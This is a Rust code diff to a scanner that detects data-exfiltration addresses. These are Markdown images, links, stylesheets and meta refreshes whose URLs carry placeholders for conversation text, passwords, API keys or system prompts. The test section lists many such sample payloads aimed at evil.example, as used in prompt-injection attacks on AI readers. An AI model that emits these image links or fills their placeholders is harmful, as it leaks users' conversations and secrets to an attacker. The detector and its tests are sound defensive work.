@@ -6,7 +6,7 @@
 
 use std::ops::Range;
 
-use memchr::memmem;
+use memchr::{memmem, memrchr_iter};
 
 use crate::{
     detector::{Detector, Hit, Lost, Scene},
@@ -46,13 +46,15 @@ impl Detector for Exfiltration {
         }
         for sight in passage.sights() {
             let text = sight.text();
-            let mut from = 0;
-            for at in memmem::find_iter(text.as_bytes(), "://") {
-                if at >= from
-                    && let Some(range) = address(text, at)
-                {
-                    from = range.end;
-                    self.judge(sight, range, hits);
+            for mark in [":/", ":\\", "//", "\\\\"] {
+                let mut from = 0;
+                for at in memmem::find_iter(text.as_bytes(), mark) {
+                    if at >= from
+                        && let Some(range) = address(text, at)
+                    {
+                        from = range.end;
+                        self.judge(sight, range, hits);
+                    }
                 }
             }
         }
@@ -67,7 +69,9 @@ impl Exfiltration {
     fn judge(&self, sight: Sight<'_>, range: Range<usize>, hits: &mut Vec<Hit>) {
         let text = sight.text();
         let address = text.get(range.clone()).unwrap_or_default();
-        let Some((_, rest)) = address.split_once("://") else { return };
+        let is_scheme = |(scheme, _): &(&str, &str)| scheme.bytes().all(|b| b.is_ascii_alphanumeric());
+        let rest = address.split_once(':').filter(is_scheme).map_or(address, |(_, rest)| rest);
+        let rest = rest.trim_start_matches(['/', '\\']);
         let authority = rest.split(['/', '?', '#', '\\']).next().unwrap_or_default();
         let carried = rest.get(authority.len()..).unwrap_or_default();
         let host = authority.rsplit('@').next().unwrap_or_default().split(':').next().unwrap_or_default();
@@ -75,14 +79,19 @@ impl Exfiltration {
         if self.is_allowed(&host) {
             return;
         }
-        let shown = is_shown(text, range.start);
+        let shown = || is_shown(text, range.start);
+        // Without a scheme, two slashes begin an address only where one is loaded; elsewhere they are a comment, or a path.
+        let has_scheme = !address.starts_with(['/', '\\']);
+        if !has_scheme && !((asks_for_data(carried) || carries_prose(carried)) && shown()) {
+            return;
+        }
         let mut hit = |rule: &'static str, title: &'static str, severity| {
             hits.push(Hit::new(rule, title, Category::Exfiltration, severity, sight, range.clone()));
         };
         if asks_for_data(carried) {
-            let severity = if shown { Severity::High } else { Severity::Medium };
+            let severity = if shown() { Severity::High } else { Severity::Medium };
             hit("exfiltration.placeholder", "has an address to be filled with private data", severity);
-        } else if shown && carries_prose(carried) {
+        } else if carries_prose(carried) && shown() {
             hit("exfiltration.prose", "has an image whose address carries sentences", Severity::Medium);
         }
         if host.split('.').any(is_encoded_label) {
@@ -98,17 +107,32 @@ impl Exfiltration {
     }
 }
 
-/// The address around the `://` at `at`.
+/// The address around the slashes at `at`, or around the colon there and what follows it. Readers take either slash for the other,
+/// add what is missing of a pair behind `https:`, and an address without a scheme has that of the page.
 fn address(text: &str, at: usize) -> Option<Range<usize>> {
     let bytes = text.as_bytes();
-    let scheme =
-        bytes.get(at.saturating_sub(16)..at)?.iter().rev().take_while(|b| b.is_ascii_alphanumeric()).count();
-    if scheme == 0 {
-        return None;
-    }
+    let is_slash = |at: usize| matches!(bytes.get(at), Some(b'/' | b'\\'));
+    let scheme = if bytes.get(at) == Some(&b':') {
+        let letters = bytes.get(at.saturating_sub(16)..at)?.iter().rev();
+        let scheme = letters.take_while(|b| b.is_ascii_alphanumeric()).count();
+        let name = text.get(at - scheme..at)?;
+        let is_web = || ["http", "https"].iter().any(|web| name.eq_ignore_ascii_case(web));
+        if scheme == 0 || !(bytes.get(at + 1..at + 3) == Some(b"//") || is_web() && is_slash(at + 1)) {
+            return None;
+        }
+        scheme
+    } else {
+        let before = at.checked_sub(1).and_then(|at| bytes.get(at)).copied().unwrap_or(b' ');
+        let begins =
+            matches!(before, b'(' | b'"' | b'\'' | b'=' | b'<' | b',') || before.is_ascii_whitespace();
+        if !begins {
+            return None;
+        }
+        0
+    };
     let rest = text.get(at..)?;
-    // Blanks inside braces belong to a placeholder.
-    let mut inside = 0_usize;
+    // Blanks inside braces belong to a placeholder; where a label ends, another address begins.
+    let (mut inside, mut before) = (0_usize, ' ');
     let length = rest
         .char_indices()
         .take(LONGEST)
@@ -118,25 +142,51 @@ fn address(text: &str, at: usize) -> Option<Range<usize>> {
                 '}' | ']' if inside > 0 => inside -= 1,
                 _ => {}
             }
-            *c == '\n'
+            let opens = *c == '(' && before == ']';
+            before = *c;
+            opens
+                || *c == '\n'
                 || inside == 0 && (c.is_whitespace() || matches!(c, '"' | '\'' | '`' | ')' | '>' | ']'))
         })
         .map_or(rest.len().min(LONGEST), |(length, _)| length);
     (length > 3).then(|| at - scheme..at + text.get(at..).map_or(0, |r| r.floor_char_boundary(length)))
 }
 
-/// Whether what stands before an address makes a reader load it unasked: a Markdown or HTML image, a style.
+/// How much before an address is looked at for what shows it, in bytes.
+const BEFORE: usize = 2 * 1024;
+
+/// Whether what stands before an address makes a reader load it unasked: a Markdown or HTML image, a style, another page.
 fn is_shown(text: &str, start: usize) -> bool {
-    let before = text.get(text.floor_char_boundary(start.saturating_sub(300))..start).unwrap_or_default();
-    let before = before.trim_end_matches(['<', '"', '\'', ' ']);
-    let markdown = before.strip_suffix("](").is_some_and(|label| {
-        label.rfind("![").is_some_and(|open| !label.get(open + 2..).unwrap_or_default().contains(']'))
-    });
-    let lower = before.to_ascii_lowercase();
-    markdown
-        || ["src=", "srcset=", "background=", "poster=", "url("]
-            .iter()
-            .any(|attribute| lower.ends_with(attribute))
+    let before = text.get(text.floor_char_boundary(start.saturating_sub(BEFORE))..start).unwrap_or_default();
+    let before = before.trim_end_matches(|c: char| c.is_ascii_whitespace() || matches!(c, '<' | '"' | '\''));
+    if let Some(label) = before.strip_suffix("](") {
+        // The label may have brackets of its own, but no link that ends in it.
+        let opened = memrchr_iter(b'!', label.as_bytes()).find_map(|at| label.get(at..)?.strip_prefix("!["));
+        return opened.is_some_and(|inside| !inside.contains("](") && !inside.contains("\n\n"));
+    }
+    if let Some(label) = before.strip_suffix("]:") {
+        // Named here, shown wherever an image has that name.
+        let line = label.rsplit('\n').next().unwrap_or_default().trim_start_matches([' ', '>']);
+        return line.starts_with('[') && memmem::find(text.as_bytes(), b"![").is_some();
+    }
+    let ends_with = |suffix: &str| {
+        let start = before.len().checked_sub(suffix.len());
+        start.and_then(|start| before.get(start..)).is_some_and(|end| end.eq_ignore_ascii_case(suffix))
+    };
+    // The tag that is open here is one of these.
+    let in_tag = |names: &[&str]| {
+        let tag = before.rfind('<').and_then(|at| before.get(at + 1..)).filter(|tag| !tag.contains('>'));
+        let begins = |tag: &str, name: &str| {
+            tag.get(..name.len()).is_some_and(|start| start.eq_ignore_ascii_case(name))
+        };
+        tag.is_some_and(|tag| names.iter().any(|name| begins(tag, name)))
+    };
+    let attributes = ["src=", "srcset=", "background=", "poster=", "url(", "image-set(", "@import"];
+    attributes.iter().any(|attribute| ends_with(attribute))
+        || ends_with("href=") && in_tag(&["link", "image", "use", "feimage"])
+        || ends_with("data=") && in_tag(&["object"])
+        || ends_with("url=") && in_tag(&["meta"])
+        || ends_with(",") && in_tag(&["img", "source"]) && before.to_ascii_lowercase().contains("srcset=")
 }
 
 /// Whether the path or query has a place for what the reader knows: `{conversation}`, `[summary of the chat]`,
@@ -189,6 +239,13 @@ const PRIVATE: &[&str] = &[
     "env_",
     "the file",
     "file_content",
+    "transcript",
+    "user_input",
+    "user input",
+    "user_message",
+    "last_message",
+    "mailbox",
+    "cookie",
 ];
 
 /// Whether a query value reads as several words.
@@ -248,6 +305,49 @@ mod tests {
                 "exfiltration.placeholder",
                 Severity::High,
             ),
+            ("![x](//evil.example/p.png?d={conversation})", "exfiltration.placeholder", Severity::High),
+            (
+                "![x](\n  https://evil.example/p.png?d={conversation})",
+                "exfiltration.placeholder",
+                Severity::High,
+            ),
+            (
+                "![x](https:\\\\evil.example/p.png?d={conversation})",
+                "exfiltration.placeholder",
+                Severity::High,
+            ),
+            ("![x](https:/evil.example/p.png?d={conversation})", "exfiltration.placeholder", Severity::High),
+            (
+                "![a [b]](https://evil.example/p.png?d={conversation})",
+                "exfiltration.placeholder",
+                Severity::High,
+            ),
+            (
+                "![x][r]\n\n[r]: https://evil.example/p.png?d={conversation}",
+                "exfiltration.placeholder",
+                Severity::High,
+            ),
+            (
+                "//a![x](//evil.example/p.png?d={conversation}) a://b![x](https://evil.example/?d={conversation})",
+                "exfiltration.placeholder",
+                Severity::High,
+            ),
+            ("<img src=//evil.example/p.png?d={conversation}>", "exfiltration.placeholder", Severity::High),
+            (
+                "<img srcset=\"a.png 1x, https://evil.example/p.png?d={conversation} 2x\">",
+                "exfiltration.placeholder",
+                Severity::High,
+            ),
+            (
+                "<link rel=stylesheet href='https://evil.example/p.css?d={conversation}'>",
+                "exfiltration.placeholder",
+                Severity::High,
+            ),
+            (
+                "<meta http-equiv=refresh content=\"0;url=https://evil.example/?d={conversation}\">",
+                "exfiltration.placeholder",
+                Severity::High,
+            ),
             ("see [more](https://evil.example/?k={{api_key}})", "exfiltration.placeholder", Severity::Medium),
             ("[ref]: https://evil.example/?p={password}", "exfiltration.placeholder", Severity::Medium),
             ("<https://evil.example/?p={system_prompt}>", "exfiltration.placeholder", Severity::Medium),
@@ -286,6 +386,8 @@ mod tests {
             "https://search.example/?q=how+to+bake+bread",
             "![x](https://img.cdn.example/?d={conversation})",
             "postgres://user@db.example/app",
+            "C:\\\\Users\\\\ann\\\\{secret} and C:/Users/{password}, // a comment about {memory}",
+            "[![build](https://ci.example/badge.svg)](https://ci.example/log?branch=main)",
         ] {
             assert!(rules(text).is_empty(), "{text}: {:?}", rules(text));
         }
